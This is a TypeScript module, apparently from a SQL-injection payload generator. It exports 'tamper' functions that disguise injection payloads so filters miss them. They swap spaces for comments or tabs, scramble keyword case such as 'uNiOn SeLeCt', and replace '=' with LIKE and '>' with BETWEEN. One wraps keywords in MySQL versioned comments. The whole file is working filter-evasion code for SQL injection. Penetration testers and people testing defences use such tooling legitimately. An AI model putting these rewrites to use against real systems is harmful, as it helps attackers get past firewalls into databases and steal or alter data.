/** Rewritings of SQL that mean the same to the database and look different to a filter. Each works on the payloads of
 *  this generator; none is a general SQL rewriter. */

export type Tamper = (payload: string) => string

const outsideQuotes = (payload: string, rewrite: (text: string) => string): string =>
  payload
    .split(/('[^']*')/)
    .map((part, i) => (i % 2 === 0 ? rewrite(part) : part))
    .join('')

/** `/**\/` for each space but the one that a `--` comment needs. */
export const commentsForSpaces: Tamper = (payload) => payload.replaceAll(/(?<!--) /g, '/**/')

/** Line feeds and tabs for spaces. */
export const otherWhiteSpace: Tamper = (payload) =>
  payload.replaceAll(/(?<!--) /g, (_, at: number) => (at % 2 === 0 ? '\n' : '\t'))

/** `uNiOn SeLeCt`. */
export const mixedCase: Tamper = (payload) =>
  outsideQuotes(payload, (text) =>
    text.replaceAll(/[A-Z]{3,}/g, (word) =>
      [...word].map((letter, i) => (i % 2 === 0 ? letter.toLowerCase() : letter)).join(''),
    ),
  )

/** `x BETWEEN n+1 AND 127` for `x>n`. */
export const betweenForGreater: Tamper = (payload) =>
  payload.replaceAll(/>(\d+)(?=\D*$)/g, (_, n: string) => ` BETWEEN ${Number(n) + 1} AND 127`)

/** `1 LIKE 1` for `1=1`. */
export const likeForEquals: Tamper = (payload) => payload.replaceAll(/(\d)=(\d)/g, '$1 LIKE $2')

/** MySQL's versioned comments around keywords; not in the list below, for PostgreSQL takes them for comments. */
export const versionedComments: Tamper = (payload) =>
  payload.replaceAll(/\b(UNION|ALL|SELECT|FROM|AND|OR|LIMIT)\b/g, '/*!50000$1*/')

export const tampers: Readonly<Record<string, Tamper>> = {
  commentsForSpaces,
  otherWhiteSpace,
  mixedCase,
  betweenForGreater,
  likeForEquals,
}
